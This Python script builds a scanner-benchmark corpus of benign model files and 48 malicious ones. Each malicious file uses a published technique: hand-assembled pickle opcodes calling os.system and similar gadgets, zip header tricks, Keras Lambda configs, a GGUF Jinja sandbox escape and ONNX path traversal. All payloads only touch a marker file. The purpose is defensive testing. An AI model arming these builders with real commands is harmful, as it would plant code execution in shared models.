"""Build the labelled model-file corpus for the scanner benchmark.

    python make_corpus.py OUT [--big]

Writes OUT/malicious/*, OUT/benign/* and OUT/labels.json. Every malicious file uses
one technique from the public research (picklescan CVE-2025-1716/-1889/-1944/-1945,
JFrog's CVE-2025-10155/-10156, nullifAI, CVE-2025-32434, Keras CVE-2024-3660 and
CVE-2025-1550, llama-cpp-python CVE-2024-34359, ONNX CVE-2024-27318, TF file ops),
with an inert payload: touching a marker file. This script writes bytes only; it
never loads, unpickles or renders anything it writes.

Benign files come from the real libraries (torch, numpy, scikit-learn, joblib,
safetensors, keras, h5py, onnx, gguf): run this with the corpus virtualenv that
``run.py`` creates. ``--big`` adds the large throughput files: a >= 1 GB checkpoint
written by ``torch.save`` and a ~90 MB pickle of 3 million small objects.
"""

from __future__ import annotations

import argparse
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

MARKER = "/tmp/ramparts-bench-pwned"
CMD = f"touch {MARKER}"

# --- opcode helpers --------------------------------------------------------------------


def s(text: str) -> bytes:
    raw = text.encode()
    return (
        (b"\x8c" + bytes([len(raw)]) + raw)
        if len(raw) < 256
        else b"X" + struct.pack("<I", len(raw)) + raw
    )


def g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


P2, P4 = b"\x80\x02", b"\x80\x04"


def call1(module: str, name: str, arg: str, proto: bytes = P2) -> bytes:
    return proto + g(module, name) + s(arg) + b"\x85R."


def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        for name, data in members.items():
            zf.writestr(
                zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data, compress_type=method
            )
    return buf.getvalue()


def torch_zip(pkl: bytes, top: str = "archive") -> bytes:
    return zip_bytes(
        {
            f"{top}/data.pkl": pkl,
            f"{top}/version": b"3\n",
            f"{top}/byteorder": b"little",
            f"{top}/data/0": b"\0" * 16,
        }
    )


def npy_object(payload: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


# --- malicious samples: one technique each ------------------------------------------------

EVIL = call1("os", "system", CMD)


def _gguf(template: str) -> bytes:
    def gs(t: str) -> bytes:
        raw = t.encode()
        return struct.pack("<Q", len(raw)) + raw

    meta = [("general.architecture", gs("llama")), ("tokenizer.chat_template", gs(template))]
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(meta))
    for key, value in meta:
        out += gs(key) + struct.pack("<I", 8) + value
    return out


def _pb_varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _pb(num: int, payload: bytes | str) -> bytes:
    data = payload.encode() if isinstance(payload, str) else payload
    return _pb_varint(num << 3 | 2) + _pb_varint(len(data)) + data


def _onnx_external(location: str) -> bytes:
    tensor = (
        _pb(8, "w")
        + _pb_varint(13 << 3)
        + _pb_varint(1)
        + _pb(14, _pb(1, "location") + _pb(2, location))
    )
    node = _pb(1, "x") + _pb(2, "y") + _pb(4, "Relu")
    graph = _pb(1, node) + _pb(2, "g") + _pb(5, tensor)
    return (
        _pb_varint(1 << 3)
        + _pb_varint(8)
        + _pb(2, "bench")
        + _pb(7, graph)
        + _pb(8, _pb_varint(2 << 3) + _pb_varint(17))
    )


def _saved_model(op: str) -> bytes:
    graph = _pb(1, _pb(1, "a") + _pb(2, "Const")) + _pb(1, _pb(1, "w") + _pb(2, op))
    return _pb_varint(1 << 3) + _pb_varint(1) + _pb(2, _pb(1, b"meta") + _pb(2, graph))


def _keras(layer: dict) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [layer]},
        "registered_name": None,
    }
    return zip_bytes(
        {
            "metadata.json": b'{"keras_version": "3.9.0"}',
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"",
        }
    )


LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "evil",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None},
        },
    },
    "registered_name": None,
}


def _legacy_torch(payload_in: int) -> bytes:
    """Legacy torch.save: magic, protocol, sys_info, data and storage-key pickles."""
    parts = [
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        pickle.dumps({"w": 1}, protocol=2),
        pickle.dumps(["0"], protocol=2),
    ]
    parts[payload_in] = EVIL
    return b"".join(parts) + b"\0" * 64


def _torchscript_setstate() -> bytes:
    code = (
        "class Evil(Module):\n"
        "  def __setstate__(self, state: Tuple[Tensor]) -> None:\n"
        f"    torch.ops.aten.system('{CMD}')\n"
    )
    constants = pickle.dumps((), protocol=2)
    return zip_bytes(
        {
            "model/data.pkl": P2 + g("__torch__", "Evil") + b")\x81)b.",
            "model/code/__torch__.py": code.encode(),
            "model/constants.pkl": constants,
            "model/version": b"6\n",
        }
    )


def _seven_zip() -> bytes:
    # A 7z signature header around a torch archive (nullifAI): loaders that try 7z or
    # unpack bundles reach the payload; scanners that only know zip see nothing.
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24 + torch_zip(EVIL)


def malicious() -> dict[str, tuple[str, bytes]]:
    """name -> (technique, bytes)."""
    return {
        "m01_os_system.pkl": ("GLOBAL os.system + REDUCE", EVIL),
        "m02_posix_system.pkl": ("posix.system alias", call1("posix", "system", CMD)),
        "m03_subprocess_popen.pkl": (
            "subprocess.Popen with an argument list",
            P2 + g("subprocess", "Popen") + b"]" + s("touch") + s(MARKER) + b"\x86e\x85R.",
        ),
        "m04_builtins_eval.pkl": (
            "builtins.eval",
            call1("builtins", "eval", f"__import__('os').system('{CMD}')"),
        ),
        "m05_builtins_exec.pkl": (
            "builtins.exec",
            call1("builtins", "exec", f"import os; os.system('{CMD}')"),
        ),
        "m06_getattr_chain.pkl": (
            "getattr(__import__('os'), 'system') without a direct os global",
            P2
            + g("builtins", "getattr")
            + g("builtins", "__import__")
            + s("os")
            + b"\x85R"
            + s("system")
            + b"\x86R"
            + s(CMD)
            + b"\x85R.",
        ),
        "m07_pip_main.pkl": (
            "pip.main (CVE-2025-1716)",
            P2 + g("pip", "main") + b"]" + s("install") + s("--help") + b"\x86e\x85R.",
        ),
        "m08_runpy.pkl": (
            "runpy._run_code",
            P2 + g("runpy", "_run_code") + s(f"import os; os.system('{CMD}')") + b"}\x86R.",
        ),
        "m09_importlib.pkl": (
            "importlib.import_module then getattr",
            P2
            + g("builtins", "getattr")
            + g("importlib", "import_module")
            + s("os")
            + b"\x85R"
            + s("system")
            + b"\x86R"
            + s(CMD)
            + b"\x85R.",
        ),
        "m10_attrgetter.pkl": (
            "operator.attrgetter gadget",
            P2 + g("operator", "attrgetter") + s("system") + b"\x85R" + g("os", "path") + b"\x85R.",
        ),
        "m11_stack_global_memo.pkl": (
            "STACK_GLOBAL fed from memo via DUP",
            P4 + s("os") + b"2q\x010" + s("system") + b"q\x020h\x01h\x02\x93" + s(CMD) + b"\x85R.",
        ),
        "m12_protocol0.pkl": ("protocol 0 text opcodes", f"cos\nsystem\n(S'{CMD}'\ntR.".encode()),
        "m13_inst.pkl": ("INST opcode", f"(S'{CMD}'\nios\nsystem\n.".encode()),
        "m14_obj.pkl": ("OBJ opcode", P2 + b"(" + g("os", "system") + s(CMD) + b"o."),
        "m15_newobj_ex.pkl": (
            "NEWOBJ_EX with subprocess.Popen",
            P4 + g("subprocess", "Popen") + b"]" + s("touch") + s(MARKER) + b"\x86e\x85}\x92.",
        ),
        "m16_marshal_function.pkl": (
            "marshal.loads + types.FunctionType",
            P2
            + g("types", "FunctionType")
            + g("marshal", "loads")
            + b"C\x04\xe3\x00\x00\x00\x85R}\x86R)R.",
        ),
        "m17_pkgutil_resolve.pkl": (
            "pkgutil.resolve_name('os:system')",
            P2 + g("pkgutil", "resolve_name") + s("os:system") + b"\x85R" + s(CMD) + b"\x85R.",
        ),
        "m18_spawnv_passfds.pkl": (
            "multiprocessing.util.spawnv_passfds",
            P2
            + g("multiprocessing.util", "spawnv_passfds")
            + s("/usr/bin/touch")
            + b"]"
            + s("touch")
            + s(MARKER)
            + b"\x86e)\x87R.",
        ),
        "m19_collect_env_run.pkl": (
            "torch.utils.collect_env.run",
            call1("torch.utils.collect_env", "run", CMD),
        ),
        "m20_payload_then_broken.pkl": (
            "payload then a broken stream (nullifAI)",
            EVIL[:-1] + b"\xff\xfe\xfd broken",
        ),
        "m21_odd_extension.weights": ("pickle under a non-model extension (CVE-2025-1889)", EVIL),
        "m22_raw_pickle.bin": ("raw pickle named .bin (CVE-2025-10155)", EVIL),
        "m23_object_array.npy": ("NumPy object array", npy_object(EVIL)),
        "m24_object_array.npz": (
            "NumPy .npz with an object array",
            zip_bytes({"arr_0.npy": npy_object(EVIL)}),
        ),
        "m25_joblib_zlib.joblib": ("joblib zlib compression", zlib.compress(EVIL, 3)),
        "m26_bundle.tar.gz": (
            "tar.gz bundle",
            gzip.compress(_tar({"bundle/model.pkl": EVIL}), mtime=0),
        ),
        "m27_torch_zip.pt": ("PyTorch zip with malicious data.pkl", torch_zip(EVIL)),
        "m28_nested_pickle.pkl": (
            "pickle.loads of a nested pickle",
            P2 + g("pickle", "loads") + b"C" + bytes([len(EVIL)]) + EVIL + b"\x85R.",
        ),
        "m29_zip_flag_bits.pt": (
            "zip encrypted flag bit set (CVE-2025-1945)",
            _flag_bits(torch_zip(EVIL)),
        ),
        "m30_zip_name_mismatch.pt": (
            "zip local/central name mismatch (CVE-2025-1944)",
            _name_mismatch(torch_zip(EVIL)),
        ),
        "m31_bad_crc.pt": (
            "zip member with a bad CRC (CVE-2025-10156)",
            _bad_crc(torch_zip(EVIL + b"N" * 8000)),
        ),
        "m32_legacy_torch_4th.pt": (
            "legacy torch format, payload in the 4th pickle",
            _legacy_torch(3),
        ),
        "m33_pickle_zip_polyglot.pt": (
            "pickle + zip polyglot",
            EVIL + torch_zip(pickle.dumps({"w": 1}, protocol=2)),
        ),
        "m34_7z_wrapped.pt": ("7z-wrapped archive (nullifAI)", _seven_zip()),
        "m35_zip_in_zip.zip": ("zip inside zip", zip_bytes({"inner/model.pt": torch_zip(EVIL)})),
        "m36_torchscript_setstate.pt": (
            "TorchScript __setstate__ (CVE-2025-32434 class)",
            _torchscript_setstate(),
        ),
        "m37_keras_lambda.keras": ("Keras Lambda layer (CVE-2024-3660)", _keras(LAMBDA)),
        "m38_keras_nested_lambda.keras": (
            "Lambda nested inside a Functional model",
            _keras(
                {
                    "module": "keras",
                    "class_name": "Functional",
                    "config": {
                        "name": "f",
                        "layers": [
                            {
                                "module": "keras",
                                "class_name": "Sequential",
                                "config": {"layers": [LAMBDA]},
                                "registered_name": None,
                            }
                        ],
                    },
                    "registered_name": None,
                }
            ),
        ),
        "m39_keras_module_ref.keras": (
            "Keras config importing os.system (CVE-2025-1550)",
            _keras(
                {
                    "module": "os",
                    "class_name": "system",
                    "config": {"command": CMD},
                    "registered_name": None,
                }
            ),
        ),
        "m40_h5_lambda.h5": (
            "HDF5 model_config with a Lambda",
            b"\x89HDF\r\n\x1a\n"
            + b"\0" * 504
            + json.dumps({"class_name": "Sequential", "config": {"layers": [LAMBDA]}}).encode()
            + b"\0" * 64,
        ),
        "m41_gguf_jinja.gguf": (
            "GGUF chat template escaping the sandbox (CVE-2024-34359)",
            _gguf(
                "{{ self.__init__.__globals__.__builtins__.__import__('os').system('"
                + CMD
                + "') }}"
            ),
        ),
        "m42_onnx_traversal.onnx": (
            "ONNX external data traversal (CVE-2024-27318)",
            _onnx_external("sub/../../../../etc/hostname"),
        ),
        "m43_tf_writefile.pb": ("TensorFlow SavedModel WriteFile op", _saved_model("WriteFile")),
        "m44_proto0_in_zip.pt": (
            "protocol-0 data.pkl in a torch zip",
            torch_zip(f"cos\nsystem\n(S'{CMD}'\ntR.".encode()),
        ),
        "m45_functools_partial.pkl": (
            "functools.partial(os.system)",
            P2 + g("functools", "partial") + g("os", "system") + s(CMD) + b"\x86R)R.",
        ),
        "m46_numpy_runstring.pkl": (
            "numpy.testing runstring",
            P2
            + g("numpy.testing._private.utils", "runstring")
            + s(f"import os; os.system('{CMD}')")
            + b"}\x86R.",
        ),
        "m47_bz2_joblib.joblib": ("joblib bz2 compression", bz2.compress(EVIL)),
        "m48_xz_pickle.pkl.xz": ("xz-compressed pickle", lzma.compress(EVIL)),
    }


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _flag_bits(data: bytes) -> bytes:
    out = bytearray(data)
    cd = out.find(b"PK\x01\x02")
    struct.pack_into("<H", out, cd + 8, 0x1)
    struct.pack_into("<H", out, 6, 0x1)
    return bytes(out)


def _name_mismatch(data: bytes) -> bytes:
    out = bytearray(data)
    n = out.find(b"archive/data.pkl")
    out[n : n + 16] = b"archive/xxxx.pkl"
    return bytes(out)


def _bad_crc(data: bytes) -> bytes:
    out = bytearray(data)
    cd = out.find(b"PK\x01\x02")
    struct.pack_into("<I", out, cd + 16, 0xDEADBEEF)
    struct.pack_into("<I", out, 14, 0xDEADBEEF)
    return bytes(out)


# --- benign samples from real libraries ------------------------------------------------------


def benign(out: Path) -> dict[str, str]:
    """Write benign files with the real libraries; return name -> what it is."""
    import h5py  # noqa: F401 - keras writes .h5 through it
    import joblib
    import numpy as np
    import onnx
    import torch
    from gguf import GGUFWriter
    from onnx import TensorProto, helper, numpy_helper
    from safetensors.torch import save_file
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    torch.manual_seed(0)
    rng = np.random.default_rng(0)
    X = rng.normal(size=(64, 4))
    y = (X[:, 0] > 0).astype(int)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    items: dict[str, tuple[str, Callable[[Path], object]]] = {
        "b01_state_dict.pt": (
            "torch.save state_dict (zip)",
            lambda p: torch.save(net.state_dict(), p),
        ),
        "b02_legacy.pt": (
            "torch.save legacy format",
            lambda p: torch.save(net.state_dict(), p, _use_new_zipfile_serialization=False),
        ),
        "b03_checkpoint.ckpt": (
            "training checkpoint with optimizer state",
            lambda p: torch.save(
                {
                    "model": net.state_dict(),
                    "optim": torch.optim.Adam(net.parameters()).state_dict(),
                    "epoch": 3,
                },
                p,
            ),
        ),
        "b04_torchscript.pt": ("TorchScript module", lambda p: torch.jit.script(net).save(str(p))),
        "b05_bf16_int8.pt": (
            "state dict of bf16 and int8 tensors",
            lambda p: torch.save(
                {"a": torch.ones(4, dtype=torch.bfloat16), "b": torch.ones(4, dtype=torch.int8)}, p
            ),
        ),
        "b06_array.npy": ("NumPy float array", lambda p: np.save(p, rng.normal(size=(16, 16)))),
        "b07_arrays.npz": ("NumPy .npz", lambda p: np.savez(p, a=np.arange(10), b=np.ones((3, 3)))),
        "b08_logreg.pkl": (
            "scikit-learn LogisticRegression pickle",
            lambda p: p.write_bytes(pickle.dumps(LogisticRegression().fit(X, y))),
        ),
        "b09_forest.joblib": (
            "scikit-learn RandomForest, joblib zlib",
            lambda p: joblib.dump(
                RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y), p, compress=3
            ),
        ),
        "b10_pipeline.joblib": (
            "scikit-learn Pipeline, joblib",
            lambda p: joblib.dump(
                make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y), p
            ),
        ),
        "b11_numpy.joblib": (
            "joblib of numpy arrays",
            lambda p: joblib.dump({"w": rng.normal(size=(8, 8))}, p),
        ),
        "b12_weights.safetensors": (
            "safetensors from torch",
            lambda p: save_file({k: v.contiguous() for k, v in net.state_dict().items()}, str(p)),
        ),
        "b13_model.gguf": (
            "GGUF with a benign chat template",
            lambda p: _write_gguf(GGUFWriter, p, np),
        ),
        "b14_inline.onnx": (
            "ONNX with inline weights",
            lambda p: onnx.save(_onnx_model(helper, numpy_helper, TensorProto, np), str(p)),
        ),
        "b15_external.onnx": (
            "ONNX with external data beside it",
            lambda p: onnx.save(
                _onnx_model(helper, numpy_helper, TensorProto, np),
                str(p),
                save_as_external_data=True,
                all_tensors_to_one_file=True,
                location="b15_external.onnx.data",
                size_threshold=0,
            ),
        ),
        "b16_model.keras": ("Keras 3 .keras", lambda p: _keras_model(keras).save(p)),
        "b17_model.h5": ("Keras legacy HDF5", lambda p: _keras_model(keras).save(p)),
        "b18_p0_dict.pkl": (
            "protocol-0 pickle of plain data",
            lambda p: p.write_bytes(pickle.dumps({"a": [1, 2.5, "x"]}, protocol=0)),
        ),
        "b19_p2_ordereddict.pkl": (
            "OrderedDict pickle",
            lambda p: p.write_bytes(
                pickle.dumps(__import__("collections").OrderedDict(a=1), protocol=2)
            ),
        ),
        "b20_datetime.pkl": (
            "datetime pickle",
            lambda p: p.write_bytes(
                pickle.dumps(__import__("datetime").datetime(2026, 1, 1), protocol=2)
            ),
        ),
        "b21_p5_numpy.pkl": (
            "protocol-5 pickle of a numpy array",
            lambda p: p.write_bytes(pickle.dumps(rng.normal(size=(4, 4)), protocol=5)),
        ),
        "b22_bundle.zip": (
            "zip bundle of a state dict and a config",
            lambda p: p.write_bytes(
                zip_bytes(
                    {
                        "model/weights.pt": _bytes_of(lambda q: torch.save(net.state_dict(), q)),
                        "model/config.json": b'{"hidden_size": 8}',
                    }
                )
            ),
        ),
        "b23_config.json": (
            "Hugging Face style config.json",
            lambda p: p.write_text(
                json.dumps(
                    {"architectures": ["BertModel"], "hidden_size": 768, "model_type": "bert"}
                )
            ),
        ),
    }
    written: dict[str, str] = {}
    for name, (what, make) in items.items():
        make(out / name)
        written[name] = what
    return written


def _bytes_of(save: Callable[[io.BytesIO], object]) -> bytes:
    buf = io.BytesIO()
    save(buf)
    return buf.getvalue()


def _write_gguf(writer_cls, path: Path, np) -> None:
    w = writer_cls(str(path), "llama")
    w.add_uint32("llama.context_length", 128)
    w.add_chat_template(
        "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}"
    )
    w.add_tensor("tok_embd.weight", np.ones((4, 4), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def _onnx_model(helper, numpy_helper, TensorProto, np):  # noqa: N803 - the library's name
    w = numpy_helper.from_array(np.ones((4, 2), dtype=np.float32), name="W")
    node = helper.make_node("MatMul", ["X", "W"], ["Y"])
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        [w],
    )
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])


def _keras_model(keras):
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])
    model.compile()
    return model


# --- throughput files ---------------------------------------------------------------------


def big(out: Path) -> dict[str, str]:
    import torch

    written = {}
    ckpt = out / "checkpoint_1gb.pt"
    if not ckpt.exists():
        torch.save({f"layer{i}.weight": torch.zeros(4096, 4096) for i in range(16)}, ckpt)
    written[ckpt.name] = "1 GiB torch.save state dict (16 x 4096x4096 fp32)"
    objects = out / "objects_3m.pkl"
    if not objects.exists():
        data = [{"id": i, "v": i * 0.5, "t": "ok", "f": True} for i in range(3_000_000)]
        objects.write_bytes(pickle.dumps(data, protocol=4))
        del data
    written[objects.name] = "pickle of 3 million small dicts (about 90 MB)"
    return written


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--big", action="store_true", help="also write the throughput files")
    args = parser.parse_args()
    (args.out / "malicious").mkdir(parents=True, exist_ok=True)
    (args.out / "benign").mkdir(parents=True, exist_ok=True)
    labels: dict[str, dict[str, str]] = {"malicious": {}, "benign": {}, "big": {}}
    for name, (technique, data) in malicious().items():
        (args.out / "malicious" / name).write_bytes(data)
        labels["malicious"][name] = technique
    labels["benign"] = benign(args.out / "benign")
    if args.big:
        (args.out / "big").mkdir(exist_ok=True)
        labels["big"] = big(args.out / "big")
    (args.out / "labels.json").write_text(json.dumps(labels, indent=2) + "\n")
    print(
        f"{len(labels['malicious'])} malicious, {len(labels['benign'])} benign, {len(labels['big'])} big files in {args.out}"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
